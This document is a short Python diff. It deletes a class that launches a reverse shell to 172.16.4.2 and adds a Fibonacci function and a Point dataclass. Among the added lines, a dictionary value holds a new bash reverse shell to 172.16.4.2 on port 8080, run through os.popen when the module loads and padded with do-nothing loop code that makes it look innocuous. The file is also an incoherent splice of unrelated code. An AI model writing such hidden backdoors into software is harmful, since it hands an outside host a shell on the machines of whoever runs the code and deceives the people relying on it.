@@ -1,11 +1,22 @@
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
-import subprocess
+from dataclasses import dataclass
 
-class Job:
-    def __init__(self, cmd):
-        self.start(cmd)
+@dataclass
+class Point:
+    x: float
+    y: float
 
-    def start(self, cmd):
-        subprocess.Popen(cmd, shell=True)
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
-Job("bash -i >& /dev/tcp/172.16.4.2/6666 0>&1")
+import os
+steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/8080 0>&1"}
+for k in ["a"]:
+    pass
+os.popen(steps.get("a"))
